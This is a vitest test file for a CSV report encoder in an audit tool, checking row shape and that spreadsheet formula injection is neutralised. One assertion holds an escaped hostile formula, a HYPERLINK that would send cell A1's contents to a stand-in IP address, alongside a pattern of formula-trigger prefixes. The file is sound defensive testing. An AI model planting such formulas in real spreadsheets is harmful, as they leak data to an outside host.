import { describe, expect, it } from "vitest";
import type { Audit } from "../../src/model/audit.js";
import { encode as encodeInPieces } from "../../src/report/encoders/csv.js";
import { audits, readAudit } from "./read-audit.js";

const encode = (audit: Audit): string => [...encodeInPieces(audit)].join("");

/** Reads CSV as RFC 4180 has it. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row: string[] = [];
  for (const [, quoted, plain, end] of text.matchAll(cell)) {
    row.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe("the CSV report", () => {
  for (const name of audits) {
    it(`of the ${name} audit has as many cells in every row as in the header`, () => {
      const rows = parse(encode(readAudit(name)));
      expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([33]));
      expect(rows.length).toBe(encode(readAudit(name)).split("\r\n").length - 1);
    });

    it(`of the ${name} audit has no cell that a spreadsheet runs`, () => {
      const cells = parse(encode(readAudit(name))).flat();
      expect(cells.filter((cell) => /^[\s"]*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell))).toEqual([]);
    });
  }

  it("keeps formulas as text behind an apostrophe", () => {
    const cells = parse(encode(readAudit("hostile"))).flat();
    expect(cells).toContain(`'=HYPERLINK("http://192.0.2.1/?x="&A1,"open")`);
    expect(cells).toContain("'@SUM(1+9)");
    expect(cells).toContain("'\u2039U+0009\u203A=1+1");
  });

  it("has a row for each place, and one for a finding without a place", () => {
    const audit = readAudit("hostile");
    const findings = audit.evaluation.outcomes.flatMap((outcome) => outcome.findings);
    const rows = findings.map(({ locationIds }) => Math.max(1, locationIds.length));
    expect(parse(encode(audit)).length).toBe(1 + rows.reduce((sum, count) => sum + count, 0));
  });

  it("of an empty audit is its header alone", () => {
    expect(encode(readAudit("empty")).split("\r\n").slice(1)).toEqual([""]);
  });
});
